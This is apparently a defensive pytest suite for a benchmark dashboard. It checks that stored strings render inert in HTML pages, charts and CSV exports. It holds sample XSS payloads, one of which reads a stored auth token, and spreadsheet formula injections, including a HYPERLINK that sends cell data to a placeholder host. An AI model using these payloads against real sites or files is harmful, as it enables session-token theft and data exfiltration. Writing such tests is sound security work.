"""Trust the store (issue 24): whatever a submitter or a worker stored is data on every page.

A hostile submitter (markup in the spec's free text) and a hostile worker (markup in method, layer,
module, device and message strings) store what the API accepts; rows the API may refuse today are
written straight into the store, as older data would be. Then every HTML page is opened in
chromium with a dialog handler, on SQLite and on PostgreSQL: nothing runs, the charts draw with the
names as text, the pages keep to their Content-Security-Policy, and /healthz stays fast meanwhile.
The figure builders, the page JSON and the CSV cells are also checked on their own, without a browser."""

from __future__ import annotations

import contextlib
import csv
import datetime as dt
import io
import json
import os
import re
import subprocess
import sys
import time
import types
import urllib.parse
from html.parser import HTMLParser
from pathlib import Path

import pytest

from app.csv_export import csv_text, spreadsheet_safe
from app.web import charts, job_charts, parallel_charts
from app.web.routes import page_json
from contract.rows import AttributionRow, ConvergenceRow, FidelityRow, MaxBatchRow, TrialRow
from tests.app.live_server import free_port

CHROMIUM = "/usr/bin/chromium"
ROOT = Path(__file__).resolve().parents[2]
SHOTS = Path(os.environ.get("WTACRS_SCREENSHOTS", ROOT / "out" / "screenshots"))
TOKEN = "adversarial-admin"
MIB = 2**20
# each fires a dialog if it ever reaches the page as markup; the last would show the token the
# submit form used to keep in localStorage
HOSTILE = (
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    "<b>bold</b>",
    "<a href=javascript:alert(3)>x</a>",
    "<svg onload=alert(localStorage.getItem('wtacrs-token'))>",
)
# what a spreadsheet runs: each must leave an export as text
FORMULAS = ('=HYPERLINK("http://x.invalid/?"&A1,"y")', "+1+1", "-2+3", "@SUM(A1)")
METHODS = ("full", *HOSTILE, *FORMULAS)
BATCHES = (2, 4)
HEALTHZ_LIMIT_S = 0.1


def trial(method: str, batch: int, i: int, mode: str = "cpu") -> dict:
    activations = (8 + 2 * i) * batch * MIB
    return {
        "method": method,
        "batch_size": batch,
        "mode": mode,
        "peak_bytes": 200 * MIB + activations,
        "activation_bytes": activations,
        "tokens_per_s": 1000.0 * batch / (1 + 0.1 * i),
        "oom": False,
        "error": None,
        "breakdown": {
            "parameters": 60 * MIB,
            "gradients": 60 * MIB,
            "optimizer_state": 80 * MIB,
            "activations": activations,
            "other": 0,
        },
    }


TRIALS = [trial(m, b, i) for i, m in enumerate(METHODS) for b in BATCHES]
# the same spec estimated too: the compare page's estimate-vs-measured table names the method
ESTIMATES = [trial(m, b, 0, mode="estimate") for m in ("full", HOSTILE[0]) for b in BATCHES]
MAX_BATCH = [{"method": m, "max_batch_size": 10 + 3 * i, "mode": "cpu"} for i, m in enumerate(METHODS)]
FIDELITY = [
    {
        "method": m,
        "batch_size": 4,
        "layer": layer,
        "relative_error": 0.3 + 0.05 * j,
        "relative_bias": 0.01,
        "relative_variance": 0.1,
        "draws": 4,
        "exact_norm": 2.0,
    }
    for m in ("full", HOSTILE[0])
    for j, layer in enumerate(HOSTILE)
]
ATTRIBUTION = [
    {
        "method": m,
        "batch_size": 4,
        "mode": "cpu",
        "total_bytes": 64 * MIB,
        "groups": [
            {"module": name, "bytes": (20 - j) * MIB, "ops": {HOSTILE[j - 1]: (20 - j) * MIB}}
            for j, name in enumerate(HOSTILE)
        ],
    }
    for m in ("full", HOSTILE[1])
]
CONVERGENCE = [
    {
        "method": m,
        "mode": "cpu",
        "seed": 0,
        "data": HOSTILE[0],
        "train_examples": 64,
        "val_examples": 32,
        "epochs": 1,
        "steps": 20,
        "batch_size": 4,
        "seq_len": 32,
        "losses": [0.7 - 0.01 * s for s in range(20)],
        "evals": [{"epoch": 1, "step": 20, "accuracy": acc, "loss": 0.5}],
        "accuracy": acc,
        "val_loss": 0.5,
        "train_time_s": 10.0,
        "tokens_per_s": 800.0,
        "peak_bytes": (300 + 10 * i) * MIB,
        "peak_measured_over": HOSTILE[2],
        "cache_bytes": 0,
    }
    for i, (m, acc) in enumerate((("full", 0.8), (HOSTILE[0], 0.79), (HOSTILE[3], 0.78)))
]


# --- the figures, the page JSON and the CSV cells, without a browser ---

_TAG = re.compile(r"<(?!br>)")  # our hover templates' <br> is the one markup a figure may hold


def strings(node, key=None):
    """(key, string) for every string in a figure's data and layout (its `table` is textContent)."""
    if isinstance(node, str):
        yield key, node
    elif isinstance(node, dict):
        for k, v in node.items():
            if not (k == "table" and key is None):
                yield from strings(v, k)
    elif isinstance(node, list):
        for v in node:
            yield from strings(v, key)


def hostile_job(**extra):
    rows = [TrialRow.model_validate(r) for r in TRIALS]
    return types.SimpleNamespace(
        results=rows,
        max_batch=[MaxBatchRow.model_validate(r) for r in MAX_BATCH],
        fidelity=[FidelityRow.model_validate(r) for r in FIDELITY],
        attribution=[AttributionRow.model_validate(r) for r in ATTRIBUTION],
        convergence=[ConvergenceRow.model_validate(r) for r in CONVERGENCE],
        spec={},
        device="cpu",
        **extra,
    )


def built_figures():
    job = hostile_job()
    figures = {name: build(job, 2**30) for name, build in job_charts.JOB_CHARTS.items()}
    ranked = [
        TrialRow.model_validate(
            dict(r, strategy="fsdp", world_size=2, ranks=[{"rank": k, "peak_bytes": r["peak_bytes"]} for k in (0, 1)])
        )
        for r in TRIALS
    ]
    figures["ranks"] = parallel_charts.per_rank(ranked, {"parallel": {"strategy": "fsdp", "world_size": 2}})
    points = [
        {"method": m, "at": f"2024-01-0{1 + i % 5}T00:00:00", "value": 1.0 + i, "job_id": HOSTILE[i % 5], "batch": 4}
        for i, m in enumerate(METHODS)
    ]
    figures["history"] = charts.history(points, "peak_bytes GiB")
    return figures


def test_no_figure_carries_markup_from_stored_data():
    figures = built_figures()
    assert all(figures.values()), [n for n, f in figures.items() if not f]
    for name, figure in figures.items():
        for key, text in strings(figure):
            if key in ("hovertemplate", "texttemplate"):  # ours: no stored string goes in one
                assert not any(h in text for h in HOSTILE), (name, key, text)
                assert not _TAG.search(text), (name, key, text)
            else:
                assert "<" not in text and ">" not in text, (name, key, text)
                assert not re.search(r"&(?!amp;|lt;|gt;)", text), (name, key, text)
    # the names are still there, as text Plotly decodes back to the very characters
    names = {t["name"] for t in figures["memory"]["data"]}
    assert {charts.plotly_text(m) for m in METHODS} <= names
    assert charts.plotly_text(HOSTILE[0]) == "&lt;/script&gt;&lt;script&gt;alert(1)&lt;/script&gt;"
    fidelity_x = {x for t in figures["fidelity"]["data"] for x in t["x"]}
    assert {charts.plotly_text(h) for h in HOSTILE} <= fidelity_x
    attribution_y = set(figures["attribution"]["data"][0]["y"])
    assert {charts.plotly_text(h) for h in HOSTILE} <= attribution_y
    # a table beside a chart is drawn with textContent: it keeps the names as they are
    assert HOSTILE[1] in {row[0] for row in figures["attribution"]["table"]["rows"]}


def test_escaping_a_figure_twice_is_not_needed_nor_done():
    once = job_charts.max_batch_bars([MaxBatchRow.model_validate(r) for r in MAX_BATCH])
    assert charts.plotly_text("a&b<c>") == "a&amp;b&lt;c&gt;"
    assert "&amp;lt;" not in json.dumps(once)


def test_page_json_cannot_end_its_script_block():
    value = {"name": HOSTILE[0], "other": "<!-- & ]]> \u2028", "nan": float("nan"), "inf": [float("inf")]}
    text = str(page_json(value))
    assert not re.search(r"[<>&]", text) and "\u2028" not in text
    assert json.loads(text) == {**value, "nan": None, "inf": [None]}


@pytest.mark.parametrize("cell", [*FORMULAS, "\tx", "\rx", "\uff1dSUM(A1)"])
def test_csv_cells_a_spreadsheet_would_run_are_text(cell):
    assert spreadsheet_safe(cell) == "'" + cell
    header, back = csv.reader(io.StringIO(csv_text([{"a": cell, "b": -1.5, "c": 0}], ["a", "b", "c"]), newline=""))
    assert back == ["'" + cell, "-1.5", "0"]  # numbers stay numbers, negative ones too


@pytest.mark.parametrize("cell", ["full", "wtacrs@0.3", "2024-01-01T00:00:00Z", "", "a=b"])
def test_csv_leaves_ordinary_text_alone(cell):
    assert spreadsheet_safe(cell) == cell


# --- the site, on both stores ---


@contextlib.contextmanager
def _database(kind: str, tmp_path_factory):
    if kind == "sqlite":
        yield f"sqlite:///{tmp_path_factory.mktemp('adversarial')}/adversarial.db"
        return
    from tests.app.conftest import postgres_schema_url

    conn, schema, url = postgres_schema_url()
    try:
        yield url
    finally:
        conn.execute(f"DROP SCHEMA {schema} CASCADE")
        conn.close()


def _store_outcome(db, job_id: str, trials: list[dict], outcome: dict, **fields) -> None:
    """Rows written straight into the store, as older stored data would be: no API check runs."""
    from app.models import Job, ResultRow
    from contract.results import JobStatus

    now = dt.datetime.now(dt.UTC)
    with db.scope() as s:
        job = s.get(Job, job_id)
        label = {"model_label": job.model_label} if hasattr(ResultRow, "model_label") else {}
        for row in trials:
            columns = {k: row[k] for k in ("method", "batch_size", "mode", "peak_bytes", "activation_bytes", "oom")}
            s.add(
                ResultRow(
                    job_id=job_id,
                    model=job.model,
                    dtype=job.dtype,
                    tokens_per_s=row["tokens_per_s"],
                    device_name=HOSTILE[3],
                    data=row,
                    **columns,
                    **label,
                )
            )
        job.outcome = outcome
        job.status, job.progress, job.started_at, job.finished_at = JobStatus.succeeded, 1.0, now, now
        for k, v in fields.items():
            setattr(job, k, v)


def _submit(api, spec: dict, hostile: dict) -> str:
    """A job with `hostile` merged into `spec` where the API takes it, else the plain spec."""
    r = api.post("/api/jobs", json=spec | hostile)
    if r.status_code != 201:
        r = api.post("/api/jobs", json=spec)
    assert r.status_code == 201, r.text
    return r.json()["id"]


# The server runs in a process of its own, as deployed: /healthz is timed against it alone, not
# against this process's browser driver, whose callbacks would hold the same interpreter lock.
SERVE = """import sys, uvicorn
from app.config import Settings
from app.main import create_app
app = create_app(Settings(database_url=sys.argv[1], admin_token=sys.argv[2]))
uvicorn.run(app, host="127.0.0.1", port=int(sys.argv[3]), log_level="warning")
"""
# ... and so is the probe that times it
PROBE = """import sys, time, httpx
client = httpx.Client()
while True:
    start = time.perf_counter()
    status = client.get(sys.argv[1]).status_code
    print(time.perf_counter() - start, status, flush=True)
    time.sleep(0.05)
"""


@contextlib.contextmanager
def served(url: str):
    import httpx

    port = free_port()
    proc = subprocess.Popen([sys.executable, "-c", SERVE, url, TOKEN, str(port)], cwd=ROOT)
    base = f"http://127.0.0.1:{port}"
    deadline = time.monotonic() + 60
    try:
        while True:
            try:
                httpx.get(base + "/healthz", timeout=2)
                break
            except httpx.TransportError:
                assert proc.poll() is None and time.monotonic() < deadline, "the server did not start"
                time.sleep(0.1)
        yield base
    finally:
        proc.terminate()
        proc.wait(30)


@pytest.fixture(scope="module", params=["sqlite", pytest.param("postgres", marks=pytest.mark.postgres)])
def site(request, tmp_path_factory):
    import httpx

    from app.db import Database

    minimal = json.loads((ROOT / "examples" / "minimal.json").read_text())
    accuracy = json.loads((ROOT / "examples" / "accuracy-minilm-sst2.json").read_text())
    with _database(request.param, tmp_path_factory) as url, served(url) as base:
        db = Database(url)  # the server migrated it at start
        with httpx.Client(base_url=base, headers={"Authorization": f"Bearer {TOKEN}"}) as api:
            # the hostile submitter: markup wherever the spec takes free text
            worked = _submit(api, minimal, {"model": {"family": "bert", "overrides": {"name_or_path": HOSTILE[0]}}})
            stored = _submit(api, minimal, {"model": {"family": "bert", "overrides": {"hidden_act": HOSTILE[1]}}})
            conv = _submit(api, accuracy, {"convergence": accuracy["convergence"] | {"data": HOSTILE[0]}})
            # the hostile worker, through the API: a progress message, then rows the API may refuse
            w = api.post("/api/workers/register", json={"name": "hostile", "device_name": HOSTILE[2]}).json()["id"]
            claimed = api.post(f"/api/workers/{w}/claim").json()
            assert claimed["job_id"] == worked, claimed
            attempt = claimed["attempt"]
            beat = {"attempt": attempt, "progress": 0.5, "message": HOSTILE[4]}
            assert api.post(f"/api/workers/{w}/jobs/{worked}/heartbeat", json=beat).status_code == 200
            posted = {"environment": {"device_name": HOSTILE[1]}, "errors": [HOSTILE[2]], "results": TRIALS}
            refused = api.post(f"/api/workers/{w}/jobs/{worked}/result", json={"attempt": attempt, "result": posted})
            assert refused.status_code in (200, 201, 204, 409, 422), refused.text
            if refused.status_code >= 400:  # still running: its page polls and shows the message
                api.post(f"/api/workers/{w}/jobs/{worked}/heartbeat", json=beat)
            # older stored data: rows straight into the store
            outcome = {
                "max_batch": MAX_BATCH,
                "fidelity": FIDELITY,
                "attribution": ATTRIBUTION,
                "environment": {"device_name": HOSTILE[3]},
                "errors": list(HOSTILE),
            }
            _store_outcome(
                db,
                stored,
                TRIALS + ESTIMATES,
                outcome,
                error=HOSTILE[0],
                progress_message=HOSTILE[1][:200],
                submitted_by=HOSTILE[2],
            )
            _store_outcome(db, conv, [], {"convergence": CONVERGENCE}, submitted_by=HOSTILE[4])
            model = api.get(f"/api/jobs/{stored}").json()["model"]
            yield types.SimpleNamespace(
                kind=request.param, url=base, db_url=url, api=api, stored=stored, conv=conv, worked=worked, model=model
            )
        db.engine.dispose()


def pages(site) -> dict[str, str]:
    """name -> path of every HTML page, the hostile ones in their URL too (reflected, never stored)."""
    m = urllib.parse.quote(site.model)
    bad = urllib.parse.quote(HOSTILE[1])
    return {
        "fits": "/",
        "fits-stored": f"/fits/{site.stored}",
        "fits-worked": f"/fits/{site.worked}",
        "jobs": "/jobs",
        "jobs-filtered": f"/jobs?model={m}",
        "jobs-old-link": f"/?model={m}",
        "job-stored": f"/jobs/{site.stored}",
        "job-convergence": f"/jobs/{site.conv}",
        "job-worked": f"/jobs/{site.worked}",
        "compare": f"/compare?model={m}",
        "compare-hostile-baseline": f"/compare?model={m}&baseline={urllib.parse.quote(HOSTILE[0])}",
        "compare-hostile-model": f"/compare?model={bad}",
        "history": f"/history?model={m}",
        "history-speed": f"/history?model={m}&metric=tokens_per_s",
        "error-404": f"/jobs/{bad}",
        "error-422": f"/history?metric={bad}",
        "docs": "/docs",
        "redoc": "/redoc",
    }


# the charts each page must draw
DRAWN = {
    "job-stored": ("memory", "max_batch", "throughput", "breakdown", "frontier", "attribution", "fidelity"),
    "job-convergence": ("loss", "accuracy"),
    "fits-stored": ("fits",),
    "compare": ("compare", "max_batch_0"),
    "compare-hostile-baseline": ("compare", "max_batch_0"),
    "history": ("history",),
    "history-speed": ("history",),
}
_INJECTED = """() => document.querySelectorAll(
  "img, iframe, object, embed, a[href^='javascript'], .main-svg a, .main-svg tspan[style*='bold'],"
  + " script:not([src]):not([type='application/json'])").length"""


def _active_markup(html: str) -> list:
    """The page's elements that would run script or load from a stored URL: an inline script (not
    the JSON block), an event-handler attribute, a javascript: URL, an image."""
    found = []

    class Tags(HTMLParser):
        def handle_starttag(self, tag, attrs):
            attrs = dict(attrs)
            if tag == "script" and not attrs.get("src") and attrs.get("type") != "application/json":
                found.append((tag, attrs))
            if tag in ("img", "iframe", "object", "embed", "svg"):
                found.append((tag, attrs))
            for k, v in attrs.items():
                if k.startswith("on") or (v or "").strip().lower().startswith("javascript:"):
                    found.append((tag, attrs))

    Tags().feed(html)
    return found


def test_pages_hold_no_stored_markup_and_send_a_policy(site):
    import httpx

    for name, path in pages(site).items():
        r = httpx.get(site.url + path, follow_redirects=True)
        assert r.headers["content-type"].startswith("text/html"), name
        csp = r.headers["content-security-policy"]
        assert "script-src 'self'" in csp and "unsafe-inline' " not in csp.split("style-src")[0], (name, csp)
        assert "unsafe-eval" not in csp and r.headers["x-content-type-options"] == "nosniff", name
        if name in ("docs", "redoc"):
            continue
        for h in HOSTILE:
            assert h not in r.text, (name, h)
        assert not _active_markup(r.text), (name, _active_markup(r.text))
    assert httpx.get(f"{site.url}/api/jobs/{site.stored}").headers["x-content-type-options"] == "nosniff"


def test_compare_and_history_read_columns_never_stored_rows(site):
    """The pages that list or compare rows select the columns they draw: `results.data` (a worker's
    whole row) only ever as the one JSON member the compare page's breakdown table reads."""
    from fastapi.testclient import TestClient
    from sqlalchemy import event

    from app.config import Settings
    from app.main import create_app

    statements = []

    def seen(conn, cursor, statement, parameters, context, executemany):
        statements.append(statement)

    app = create_app(Settings(database_url=site.db_url, admin_token=TOKEN))  # in this process, to watch its SQL
    with TestClient(app) as client:
        event.listen(app.state.db.engine, "before_cursor_execute", seen)
        m = urllib.parse.quote(site.model)
        for path in (f"/compare?model={m}", f"/history?model={m}", f"/history?model={m}&metric=tokens_per_s"):
            assert client.get(path).status_code == 200, path
    reads = [s for s in statements if re.search(r"\bFROM results\b", s)]
    assert reads
    for s in reads:
        bare = re.sub(r"JSON_EXTRACT\(results\.data|results\.data\s*->", "", s, flags=re.I)
        assert "results.data" not in bare, s


def test_csv_exports_write_formulas_as_text(site):
    for path in (f"/api/results/export?format=csv&job_id={site.stored}", f"/compare.csv?model={site.model}"):
        r = site.api.get(path)
        assert r.status_code == 200, path
        rows = list(csv.DictReader(io.StringIO(r.text)))
        methods = {row["method"] for row in rows}
        assert {"'" + f for f in FORMULAS} <= methods, (path, methods)
        for row in rows:
            for value in row.values():
                assert not value or value[0] not in "=+-@\t\r" or re.fullmatch(r"-[\d.e+-]+", value), (path, row)


def test_openapi_declares_bearer_auth(site):
    doc = site.api.get("/openapi.json").json()
    assert doc["components"]["securitySchemes"]["HTTPBearer"] == {
        "type": "http",
        "scheme": "bearer",
        "description": doc["components"]["securitySchemes"]["HTTPBearer"].get("description"),
    }
    assert {"HTTPBearer": []} in doc["paths"]["/api/jobs"]["post"]["security"]
    # declared, never deciding: the API's own answers are unchanged
    import httpx

    r = httpx.post(site.url + "/api/jobs", json={}, headers={"Authorization": "Basic abc"})
    assert r.status_code == 401 and r.json()["detail"] == "Authorization must be 'Bearer <token>'"
    r = httpx.post(site.url + "/api/jobs", json={})
    assert r.status_code == 401 and r.headers["www-authenticate"] == "Bearer"
    assert httpx.get(site.url + "/favicon.ico").headers["content-type"] == "image/svg+xml"


class Healthz:
    """/healthz asked every 50 ms by a probe process while the browser works: `times` once it ends."""

    def __init__(self, url: str):
        self.url, self.times, self.statuses = url + "/healthz", [], set()

    def __enter__(self):
        self.proc = subprocess.Popen([sys.executable, "-c", PROBE, self.url], stdout=subprocess.PIPE, text=True)
        return self

    def __exit__(self, *exc):
        self.proc.terminate()
        out, _ = self.proc.communicate(timeout=30)
        for line in out.splitlines():
            seconds, status = line.split()
            self.times.append(float(seconds))
            self.statuses.add(int(status))


@pytest.fixture(scope="module")
def browser(site):
    if not Path(CHROMIUM).exists():
        pytest.skip("Debian chromium is not installed at /usr/bin/chromium (apt-get install chromium)")
    sync_api = pytest.importorskip("playwright.sync_api")
    with sync_api.sync_playwright() as p:
        b = p.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox", "--disable-gpu", "--no-first-run"])
        yield b
        b.close()


def _watch(page, site):
    seen = {"dialogs": [], "csp": [], "errors": [], "failed": []}

    def dialog(d):
        seen["dialogs"].append(d.message)
        d.dismiss()

    page.on("dialog", dialog)
    page.on("pageerror", lambda e: seen["errors"].append(str(e)))
    page.on(
        "console",
        lambda m: seen["csp"].append(m.text) if "Content Security Policy" in m.text or "Refused to" in m.text else None,
    )
    page.on("response", lambda r: seen["failed"].append((r.status, r.url)) if r.status >= 400 else None)
    # nothing leaves this server
    page.route("**/*", lambda route: route.continue_() if route.request.url.startswith(site.url) else route.abort())
    return seen


def _visit(page, site, name, path):
    page.goto(site.url + path)
    page.wait_for_load_state("load")
    for chart in DRAWN.get(name, ()):
        page.wait_for_selector(f"#chart-{chart} .main-svg", timeout=15_000)
        assert page.locator(f"#chart-{chart} .trace").count() > 0, (name, chart)
    if name == "docs":
        page.wait_for_selector("#operations-jobs-create_job_api_jobs_post", timeout=20_000)
    if name == "redoc":
        page.wait_for_selector("[data-section-id='tag/jobs']", timeout=20_000)
    page.wait_for_timeout(100)  # a handler that fires late (onload, onerror) has had its chance


@pytest.mark.browser
def test_every_page_runs_nothing_a_client_stored(site, browser):
    page = browser.new_page(viewport={"width": 1300, "height": 900})
    seen = _watch(page, site)
    began = time.perf_counter()
    with Healthz(site.url) as health:
        for name, path in pages(site).items():
            _visit(page, site, name, path)
            if name not in ("docs", "redoc"):
                assert page.evaluate(_INJECTED) == 0, name
            if name in ("job-stored", "compare", "history"):
                SHOTS.mkdir(parents=True, exist_ok=True)
                page.screenshot(path=str(SHOTS / f"adversarial-{name}-{site.kind}.png"), full_page=True)
            if name == "job-stored":
                legend = set(page.locator("#chart-memory .legendtext").all_text_contents())
                assert set(METHODS) <= legend, legend  # the names, character for character
                assert set(HOSTILE) <= set(page.locator("#chart-attribution .ytick text").all_text_contents())
                assert set(HOSTILE) <= set(page.locator("#chart-fidelity .xtick text").all_text_contents())
                assert HOSTILE[1] in page.inner_text("#table-attribution")
                assert HOSTILE[0] in page.inner_text("pre.error")
            if name == "fits-stored":  # the largest batch per method: the names as text, bars and table
                assert set(METHODS) <= set(page.locator("#chart-fits .xtick text").all_text_contents())
                assert set(HOSTILE) <= set(page.locator("#fits td:first-child").all_text_contents())
            if name == "job-convergence":
                assert HOSTILE[0] in page.inner_text("#convergence") and HOSTILE[0] in page.inner_text(".note")
            if name == "job-worked":
                page.wait_for_timeout(2500)  # one poll of a running job: its message is set as text
                assert HOSTILE[4] in page.inner_text("#progress-msg") or page.inner_text("#status") != "running"
            if name in ("compare", "compare-hostile-baseline"):
                assert set(METHODS) <= set(page.locator("#chart-max_batch_0 .xtick text").all_text_contents())
                assert HOSTILE[1] in page.inner_text("#max-batch")
                legend = page.locator("#chart-compare .legendtext").all_text_contents()
                assert f"{HOSTILE[0]} [cpu]" in legend and f"{HOSTILE[0]} [estimate]" in legend
                assert HOSTILE[0] in page.inner_text("#reconcile")
            if name == "history":
                # each series is named "method · dtype · mode": the method character for character
                legend = page.locator("#chart-history .legendtext").all_text_contents()
                assert {m for m in METHODS if any(t.startswith(f"{m} · ") for t in legend)} == set(METHODS), legend
    elapsed = time.perf_counter() - began
    assert not seen["dialogs"], seen["dialogs"]
    assert not seen["errors"], seen["errors"]
    # our own scripts and Plotly keep to the policy; ReDoc's logo from its CDN is the one request
    # the policy is there to block (app/docs.py)
    assert not [m for m in seen["csp"] if "cdn.redoc.ly" not in m], seen["csp"]
    expected = {site.url + pages(site)["error-404"], site.url + pages(site)["error-422"]}
    assert not [f for f in seen["failed"] if f[1] not in expected], seen["failed"]  # favicon included
    assert len(health.times) >= 10 and health.statuses == {200}, (len(health.times), health.statuses, elapsed)
    # a server that blocks while it renders shows as a run of slow answers; on a shared 2-core
    # machine a lone answer can wait on the scheduler, so one in 50 may pass the limit, never 1 s
    slow = [t for t in health.times if t >= HEALTHZ_LIMIT_S]
    assert len(slow) <= len(health.times) // 50 and max(health.times) < 1.0, (len(health.times), sorted(slow))


@pytest.mark.browser
def test_escaping_alone_keeps_stored_markup_inert(site, browser):
    """With the page's policy switched off (as a browser that ignores it would), still nothing runs:
    the policy is the second line, the escaping the first."""
    if site.kind != "sqlite":
        pytest.skip("the escaping is the pages' own: one store shows it (the other test runs both)")
    context = browser.new_context(bypass_csp=True, viewport={"width": 1300, "height": 900})
    page = context.new_page()
    seen = _watch(page, site)
    for name, path in pages(site).items():
        if name not in ("docs", "redoc"):
            _visit(page, site, name, path)
            assert page.evaluate(_INJECTED) == 0, name
    context.close()
    assert not seen["dialogs"], seen["dialogs"]


@pytest.mark.browser
def test_the_token_stays_in_the_tab_and_docs_can_send_it(site, browser):
    if site.kind != "sqlite":
        pytest.skip("the browser's storage and Swagger UI do not depend on the store")
    page = browser.new_page(viewport={"width": 1300, "height": 900})
    seen = _watch(page, site)
    page.goto(site.url + "/jobs")
    page.evaluate("localStorage.setItem('wtacrs-token', 'left-by-an-older-page')")
    page.reload()
    assert page.evaluate("localStorage.getItem('wtacrs-token')") is None  # dropped on sight
    page.fill("#token", TOKEN)
    page.click("#submit-form button")
    page.wait_for_url("**/jobs/*")
    assert page.evaluate("localStorage.getItem('wtacrs-token')") is None
    assert page.evaluate("sessionStorage.getItem('wtacrs-token')") == TOKEN
    page.goto(site.url + "/jobs")
    assert page.input_value("#token") == TOKEN  # kept for this tab's next submit
    page.goto(site.url + "/")
    assert page.input_value("#token") == TOKEN  # and the "what fits" form's
    # /docs: Authorize, then "Try it out" on POST /api/jobs creates a job
    page.goto(site.url + "/docs")
    page.click("button.authorize")
    page.fill(".auth-container input", TOKEN)
    page.click(".auth-btn-wrapper button.authorize")
    page.click("button.btn-done")
    op = page.locator("#operations-jobs-create_job_api_jobs_post")
    op.locator(".opblock-summary").click()
    op.locator("button.try-out__btn").click()
    op.locator("textarea.body-param__text").fill((ROOT / "examples" / "minimal.json").read_text())
    op.locator("button.execute").click()
    op.locator(".live-responses-table tr.response .response-col_status").first.wait_for(timeout=15_000)
    assert op.locator(".live-responses-table tr.response .response-col_status").first.inner_text().strip() == "201"
    assert page.evaluate("localStorage.length") == 0  # Swagger UI kept the token in memory only
    assert not seen["dialogs"] and not seen["csp"], seen
